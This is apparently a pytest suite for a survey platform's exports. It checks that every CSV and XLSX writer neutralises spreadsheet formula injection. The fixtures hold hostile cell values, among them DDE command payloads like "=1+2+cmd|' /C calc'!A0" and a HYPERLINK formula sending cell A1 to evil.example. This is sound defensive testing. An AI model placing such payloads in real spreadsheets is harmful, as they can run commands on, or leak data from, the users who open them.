"""Issue 12 item 3: no workbook or CSV the platform writes holds a formula or text a spreadsheet
would run, whatever the unit names, kiosk names and comments.

A unit is renamed with the real ``import-units`` to ``=1+2+cmd|' /C calc'!A0`` (the review's
name) and similar; citizens and a kiosk answer it through a real gunicorn; then every writer
produces its files -- the staff exports (CSV, XLSX) over HTTP, the staff report page's
background job (indices.xlsx, indices.csv), and the analysis CLI (``indices`` from the database
and from a CSV, ``change``, ``former``, ``report``) -- and every cell of every file is scanned:
no formula cell (openpyxl ``data_type == 'f'``), no text starting with ``= + - @``, tab or CR,
and the hostile names are there, shown as text."""
from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from .conftest import ROOT, add_kiosk, kiosk_body, kiosk_post

pytestmark = pytest.mark.timeout(900)

HOSTILE_VI = "=1+2+cmd|' /C calc'!A0"
HOSTILE_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
HOSTILE_KIOSK = "+cmd|' /C calc'!A0"
DANGEROUS = tuple("=+-@\t\r")


def assert_workbook_inert(data: bytes, where: str) -> str:
    """Every cell of every sheet: no formula, no dangerous leading character. Returns all text."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                cells += 1
                assert cell.data_type != "f", f"{where}: formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), \
                        f"{where}: {sheet.title}!{cell.coordinate} starts with {cell.value[:1]!r}: {cell.value!r}"
                    texts.append(cell.value)
    # The raw XML too: no <f> element anywhere (openpyxl might read one back as a value).
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(?:\w+:)?f[ >]", archive.read(name)), f"{where}: <f> in {name}"
    assert cells > 0
    return "\n".join(texts)


def assert_csv_inert(text: str, where: str, numeric_columns: set[str] = frozenset()) -> str:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows, where
    header = rows[0]
    for r, row in enumerate(rows):
        for name, value in zip(header, row):
            if r > 0 and name in numeric_columns:
                float(value or 0)      # a number, and a negative one may start with '-'
                continue
            assert not value.startswith(DANGEROUS), f"{where}: row {r} column {name}: {value!r}"
    return text


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    from .conftest import Server

    server = Server(tmp_path_factory.mktemp("formulas"))
    server.init()
    server.create_user("boss", "admin")
    unit = server.rows("SELECT u.*, p.slug AS parent_slug FROM units u LEFT JOIN units p ON p.id = u.parent_id "
                       "WHERE u.slug = 'phuong-sai-gon'")[0]
    path = server.folder / "rename.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        w = csv.writer(handle)
        w.writerow(["code", "slug", "name_vi", "name_en", "kind", "period", "parent", "population", "valid_from",
                    "valid_to"])
        w.writerow([unit["code"], unit["slug"], HOSTILE_VI, HOSTILE_EN, unit["kind"], unit["period"] or "",
                    unit["parent_slug"] or "", unit["population"] or "", unit["valid_from"] or "",
                    unit["valid_to"] or ""])
    server.flask("import-units", str(path))
    assert server.rows("SELECT name_vi FROM units WHERE slug = 'phuong-sai-gon'")[0]["name_vi"] == HOSTILE_VI
    server.start()
    for n in range(6):
        _citizen_answers(server, "phuong-sai-gon", comment=HOSTILE_COMMENT if n % 2 else "-- hết --")
        _citizen_answers(server, "phuong-tan-dinh")
    token = add_kiosk(server)
    kiosk_id = server.rows("SELECT id FROM kiosks ORDER BY id DESC LIMIT 1")[0]["id"]
    browser = server.browser()
    assert browser.get(f"/k/{token}").status == 200
    assert kiosk_post(browser, token, kiosk_body(comment="@cmd /c calc")).status == 201
    admin = server.browser()
    assert admin.login("boss").status == 302
    answer = admin.post_form(f"/staff/admin/kiosks/{kiosk_id}", {"action": "save", "name": HOSTILE_KIOSK},
                             token_page="/staff/admin/kiosks")
    assert answer.status in (302, 303), answer.text[:500]
    assert server.rows("SELECT name FROM kiosks WHERE id = ?", [kiosk_id])[0]["name"] == HOSTILE_KIOSK
    server.admin = admin
    yield server
    server.stop()


def _citizen_answers(server, slug: str, comment: str | None = None) -> None:
    browser = server.browser()
    page = browser.get(f"/u/{slug}").text
    hidden = dict(re.findall(r'name="([a-z_]+)" type="hidden" value="([^"]*)"', page))
    codes = sorted(set(re.findall(r'name="(q\d\d)"', page)))
    required = dict(re.findall(r'name="(respondent_type|gender|age_band|field)"[^>]*value="([^"]+)"', page))
    form = {**hidden, **{c: str(1 + i % 5) for i, c in enumerate(codes)}, **required}
    if comment:
        form["comment"] = comment
    answer = browser.post(f"/u/{slug}", form)
    assert answer.status == 303, answer.text[:1500]


def test_the_staff_exports_hold_no_formula(hostile_server):
    admin = hostile_server.admin
    xlsx = admin.get("/staff/exports/responses.xlsx?from=2020-01-01&to=2030-12-31")
    assert xlsx.status == 200
    text = assert_workbook_inert(xlsx.body, "responses.xlsx")
    assert "'" + HOSTILE_VI in text and "'" + HOSTILE_COMMENT in text and "'" + HOSTILE_KIOSK in text
    exported = admin.get("/staff/exports/responses.csv?from=2020-01-01&to=2030-12-31")
    assert exported.status == 200
    body = assert_csv_inert(exported.text, "responses.csv", {"duration_s"})
    assert "'" + HOSTILE_VI in body and "'@cmd /c calc" in body


def test_the_report_made_from_the_staff_page_holds_no_formula(hostile_server):
    admin = hostile_server.admin
    form = {"from": "2020-01-01", "to": "2030-12-31", "target": "80", "lang": "vi", "weights": "none"}
    started = admin.post_form("/staff/reports/", form, token_page="/staff/reports/")
    assert started.status == 303, started.text[:1500]
    job = started.header("location")
    deadline = time.time() + 300
    while "indices.csv" not in (page := admin.get(job).text):
        assert "failed" not in page.lower() or time.time() < deadline, page[-1500:]
        assert time.time() < deadline, page[-1500:]
        time.sleep(1)
    workbook = admin.get(f"{job}/indices.xlsx")
    assert workbook.status == 200
    text = assert_workbook_inert(workbook.body, "indices.xlsx")
    assert text.count("'" + HOSTILE_VI) >= 3      # the review found it as a formula in three sheets
    table = admin.get(f"{job}/indices.csv")
    assert_csv_inert(table.text, "indices.csv", _numeric(table.text))
    html = admin.get(f"{job}/report.html").text
    assert "=1+2+cmd|&#39; /C calc&#39;!A0" in html or "=1+2+cmd|&#x27; /C calc&#x27;!A0" in html


def _numeric(text: str) -> set[str]:
    """Columns whose every non-empty cell is a number (negative numbers may start with '-')."""
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    numeric = set()
    for name in rows[0]:
        values = [r[name] for r in rows if r[name] not in ("", "NA", "Inf", "-Inf")]
        try:
            [float(v) for v in values]
        except ValueError:
            continue
        numeric.add(name)
    return numeric


def _analysis(*args: str) -> subprocess.CompletedProcess:
    result = subprocess.run([sys.executable, "-m", "analysis", *args], cwd=ROOT, capture_output=True, text=True,
                            timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    return result


def test_the_analysis_cli_outputs_hold_no_formula(hostile_server, tmp_path):
    db = str(hostile_server.database)
    _analysis("indices", "--db", db, "--weights", "none", "--out", str(tmp_path / "db.csv"), "--quiet")
    # A CSV input with hostile district names (the engine's other input) ...
    survey = tmp_path / "survey.csv"
    with open(survey, "w", newline="", encoding="utf-8") as handle:
        w = csv.writer(handle)
        w.writerow(["respondent_id", "district", "stratum", "weight", "q01", "q02", "q03"])
        for i in range(60):
            district = (HOSTILE_VI, "-2+3", "quan-1")[i % 3]
            w.writerow([i + 1, district, district, 1, 1 + i % 5, 1 + (i * 7) % 5, 1 + (i * 3) % 5])
    _analysis("indices", str(survey), "--out", str(tmp_path / "a.csv"), "--quiet")
    _analysis("indices", str(survey), "--out", str(tmp_path / "b.csv"), "--quiet", "--level", "0.9")
    _analysis("change", str(tmp_path / "a.csv"), str(tmp_path / "b.csv"), "--out", str(tmp_path / "change.csv"))
    _analysis("former", "--db", db, "--from", "2020-01-01", "--to", "2030-12-31", "--weights", "none",
              "--out", str(tmp_path / "former.csv"))
    _analysis("report", "--db", db, "--from", "2020-01-01", "--to", "2030-12-31", "--weights", "none", "--lang", "en",
              "--out", str(tmp_path / "report"), "--quiet")
    for name in ("db.csv", "a.csv", "b.csv", "change.csv", "former.csv", "report/indices.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert_csv_inert(text, name, _numeric(text))
    assert "'" + HOSTILE_VI in (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert "'-2+3" in (tmp_path / "change.csv").read_text(encoding="utf-8")
    text = assert_workbook_inert((tmp_path / "report" / "indices.xlsx").read_bytes(), "CLI indices.xlsx")
    assert "'" + HOSTILE_EN in text
    # The report's own CSV writer (used when no engine writer is given) goes through the same function.
    from analysis.report.build import write_csv

    write_csv([{"district": HOSTILE_VI, "measure": "@x", "p": -0.5, "flag": True}], tmp_path / "own.csv")
    own = (tmp_path / "own.csv").read_text(encoding="utf-8")
    assert_csv_inert(own, "own.csv", {"p"})
    assert "'" + HOSTILE_VI in own and "-0.5" in own
